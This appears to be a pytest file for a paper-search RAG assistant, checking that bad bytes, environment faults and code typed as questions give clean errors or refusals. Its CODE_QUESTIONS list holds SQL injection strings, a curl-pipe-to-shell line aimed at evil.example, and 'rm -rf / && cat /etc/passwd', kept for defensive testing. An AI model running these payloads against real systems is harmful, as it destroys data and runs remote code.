"""Clear errors instead of tracebacks: every entry point reads undecodable bytes and lone surrogates in a query,
and an environment problem (RAG_HOME naming a file, a read-only or full disk, a busy port, `--out` naming a
file, a binary questions file) is one `error:` line and exit code 1. Code put where a question goes (SQL,
shell) gets a refusal, never a cited answer."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import textwrap
import urllib.request
from pathlib import Path

import orjson
import pytest
from fake_llm import Reply
from reltools import cli, serve, snapshot

from rag import Assistant, Settings

ROOT = Path(__file__).resolve().parents[2]
QUESTION = "What FID does the four-step distilled student reach on CIFAR-10?"


def one_error_line(result, *words: str) -> str:
    assert result.exit_code == 1, result.output
    lines = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    for word in words:
        assert word in lines[0], lines[0]
    return lines[0]


# ---- undecodable bytes and lone surrogates, at every entry point ---------------------------------------------
BROKEN = "diff\udcffusion \ud800sampling"  # what Python makes of undecodable argv bytes, and a lone surrogate


def test_rag_search_and_ask_read_a_query_with_lone_surrogates(tiny_copy, shared_model):
    for args in (["search", BROKEN], ["search", BROKEN, "--json"], ["ask", BROKEN], ["ask", BROKEN, "--json"]):
        result = cli(args)
        assert result.exit_code == 0, (args, result.output)
        result.stdout.encode("utf-8")  # printable: no surrogate reached the output
    hits = json.loads(cli(["search", BROKEN, "--json"]).stdout)
    assert "Diffusion" in hits[0]["title"]
    answer = json.loads(cli(["ask", BROKEN, "--json"]).stdout)
    assert "\udcff" not in answer["question"] and "?" in answer["question"]


def test_rag_search_reads_undecodable_bytes_from_stdin(tiny_copy, shared_model):
    result = cli(["search", "-"], input=b"diff\xffusion sampling\n\xfe\xfe\n\nspeech \xc3(recognition\n")
    assert result.exit_code == 0, result.output
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["query"] for line in lines] == ["diff?usion sampling", "??", "speech ?(recognition"]
    assert "Speech" in lines[2]["results"][0]["title"]


@pytest.mark.slow
def test_a_real_rag_search_process_with_strict_utf8_streams_reads_undecodable_bytes(tiny_copy):
    """The attack's setting: a real process whose stdin and stdout are strict UTF-8 (PYTHONIOENCODING=utf-8)."""
    env = {**os.environ, "PYTHONIOENCODING": "utf-8", "RAG_HOME": str(tiny_copy)}
    rag = str(Path(sys.executable).with_name("rag"))
    for cmd, data in (
        ([rag, "search", "-"], b"diff\xffusion\n"),
        ([rag, "search", b"diff\xffusion".decode("utf-8", "surrogateescape")], b""),
    ):
        done = subprocess.run(cmd, input=data, capture_output=True, env=env, timeout=120)
        assert done.returncode == 0, done.stderr.decode(errors="replace")[-2000:]
        assert b"Traceback" not in done.stderr and b"Diffusion" in done.stdout


@pytest.mark.server
def test_the_ui_search_and_ask_endpoints_read_lone_surrogates(tiny_assistant):
    """gradio_client cannot even send such text; a raw HTTP client can (JSON `\\udcff` escapes)."""
    demo = serve(tiny_assistant)
    try:
        for api, data in (("search", [BROKEN, 3]), ("ask", [BROKEN, []])):
            body = json.dumps({"data": data}).encode()  # json escapes the surrogates: valid JSON text
            request = urllib.request.Request(
                f"{demo.local_url}gradio_api/call/{api}", data=body, headers={"Content-Type": "application/json"}
            )
            with urllib.request.urlopen(request, timeout=60) as resp:
                event = json.loads(resp.read())["event_id"]
            with urllib.request.urlopen(f"{demo.local_url}gradio_api/call/{api}/{event}", timeout=60) as resp:
                stream = resp.read().decode()
            assert "event: complete" in stream, stream[:500]
            payload = stream.split("data: ", 1)[1].split("\n", 1)[0]
            result = orjson.loads(payload)  # strict JSON: no lone surrogate escaped back to the client
            assert result[0], api
    finally:
        demo.close()


# ---- the environment -----------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "args", [["stats"], ["search", "diffusion"], ["ask", QUESTION], ["ingest"], ["ui"], ["eval", "q.jsonl"]]
)
def test_rag_home_naming_a_file_is_one_line(tmp_path, monkeypatch, args):
    home = tmp_path / "not-a-dir"
    home.write_text("a file\n")
    monkeypatch.setenv("RAG_HOME", str(home))
    one_error_line(cli(args), "RAG_HOME", str(home), "is a file, not a directory")


def test_rag_ui_on_a_busy_port_is_one_line(tiny_copy, shared_model):
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        one_error_line(cli(["ui", "--port", str(port)]), f"127.0.0.1:{port}", "--port")


def test_rag_eval_out_naming_a_file_is_one_line(tiny_copy, shared_model, tmp_path):
    questions = tmp_path / "q.jsonl"
    questions.write_text(json.dumps({"id": "q1", "type": "fact", "question": QUESTION, "gold_titles": []}) + "\n")
    out = tmp_path / "report.txt"
    out.write_text("keep me\n")
    for args in (["eval", str(questions), "--out", str(out)], ["eval", "dialogues", str(questions), "--out", str(out)]):
        one_error_line(cli(args), str(out), "directory")
    assert out.read_text() == "keep me\n"


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", ["q.jsonl:3", "binary"]),
        ('{"id": "q1"}\n'.encode("utf-16"), ["q.jsonl:1", "UTF-16"]),
        (b'{"id": "q1", "question": "caf\xe9"}\n', ["q.jsonl:1", "UTF-8"]),
    ],
    ids=["binary", "utf16", "latin1"],
)
def test_an_unreadable_questions_file_is_one_line_naming_its_line(tiny_copy, shared_model, tmp_path, data, words):
    questions = tmp_path / "q.jsonl"
    questions.write_bytes(data)
    one_error_line(cli(["eval", str(questions), "--out", str(tmp_path / "run")]), *words)
    one_error_line(cli(["eval", "dialogues", str(questions), "--out", str(tmp_path / "run")]), *words)


CHILD = textwrap.dedent(
    """
    import sys
    sys.path[:0] = [{root!r}, {tests!r}]
    from fake_embeddings import HashingEmbeddings
    from typer.testing import CliRunner
    import rag.embeddings, rag.index.api
    from rag.cli import app
    fake = HashingEmbeddings()
    rag.embeddings.load_embeddings = lambda *a, **kw: fake
    rag.index.api.identity_for = lambda name: fake.identity
    for home, args in {commands!r}:
        r = CliRunner().invoke(app, args, env={{"RAG_HOME": home}})
        print(repr((args, r.exit_code, r.stderr, "Traceback" in r.output or r.exit_code not in (0, 1))))
    """
)


def namespaces() -> bool:
    if shutil.which("unshare") is None:
        return False
    probe = subprocess.run(
        ["unshare", "-rm", "mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", "/mnt"], capture_output=True
    )
    return probe.returncode == 0


@pytest.mark.slow
@pytest.mark.skipif(not namespaces(), reason="needs `unshare -rm` to mount a read-only or small file system")
@pytest.mark.parametrize("mount", ["ro", "size=40k"], ids=["read-only", "full"])
def test_a_new_index_on_a_read_only_or_full_file_system_is_one_line(tmp_path, fake_embeddings, mount):
    """A fresh RAG_HOME on a file system mounted read-only, or too small for the index, and an eval writing its
    report there: each ends with one line; nothing else breaks."""
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    base = tmp_path / "base"
    Assistant(Settings(home=base, generator="extractive"), embeddings=fake_embeddings).ingest(
        [ROOT / "tests" / "data" / "tiny.jsonl"]
    )
    questions = tmp_path / "q.jsonl"
    row = {"id": "q1", "type": "unanswerable", "question": QUESTION, "gold_titles": [], "answer": None}
    questions.write_text(json.dumps(row) + "\n")
    commands = [
        (str(mnt / "home"), ["ingest", str(ROOT / "tests" / "data" / "tiny.jsonl")]),
        (str(base), ["eval", str(questions), "--out", str(mnt / "run"), "--generator", "extractive"]),
    ]
    code = CHILD.format(root=str(ROOT), tests=str(ROOT / "tests"), commands=commands)
    script = f'mount -t tmpfs -o {mount} tmpfs {mnt} && exec {sys.executable} -c "$CHILD"'
    done = subprocess.run(
        ["unshare", "-rm", "sh", "-c", script],
        env={**os.environ, "CHILD": code},
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    runs = [eval(line) for line in done.stdout.splitlines() if line.startswith("(")]
    assert len(runs) == 2
    for args, code_, stderr, crashed in runs:
        assert not crashed, (args, stderr)
        shown = [ln.split("\r")[-1] for ln in stderr.splitlines() if ln.split("\r")[-1].strip()]
        lines = [ln for ln in shown if not (("%|" in ln and "it/s" in ln) or "q/s" in ln)]  # the eval's progress bar
        assert code_ == 1 and len(lines) == 1 and lines[0].startswith("error: "), (args, stderr)
        assert any(w in lines[0] for w in ("read-only", "no space", "nearly full")), lines[0]


# ---- code where a question goes --------------------------------------------------------------------------------
CODE_QUESTIONS = [
    "'; DROP TABLE papers; --",
    "admin' OR '1'='1",
    "SELECT * FROM papers",
    "1' UNION SELECT chunk_id, text FROM chunks WHERE '1'='1",
    "x'); DELETE FROM meta WHERE 1=1; --",
    "UPDATE papers SET title = 'pwned'",
    "$(curl http://evil.example/x.sh | sh)",
    "; rm -rf / && cat /etc/passwd",
]


@pytest.mark.parametrize("question", CODE_QUESTIONS)
def test_code_instead_of_a_question_is_refused_by_both_generators(corpus_assistant, llm_assistant, fake_llm, question):
    """On the whole bundled corpus, where `OR`, `SELECT` and `papers` match real abstracts."""
    fake_llm.set_default(Reply("Confidently answered [1]."))
    before = snapshot(corpus_assistant)
    for ans in (corpus_assistant.ask(question), llm_assistant().ask(question)):
        assert ans.refused and ans.citations == [], (question, ans.answer)
    assert fake_llm.chat_requests == []  # nothing to look up never reaches the LLM
    assert snapshot(corpus_assistant) == before


@pytest.mark.parametrize(
    "question",
    [
        "Which papers select features from tabular data where labels are scarce?",
        "Which paper drops tokens from the table of experts?",
        "How do state space models like S4 handle long sequences -- and how fast are they?",
    ],
)
def test_questions_that_merely_look_like_code_are_still_answered(corpus_assistant, question):
    assert not corpus_assistant.ask(question).refused
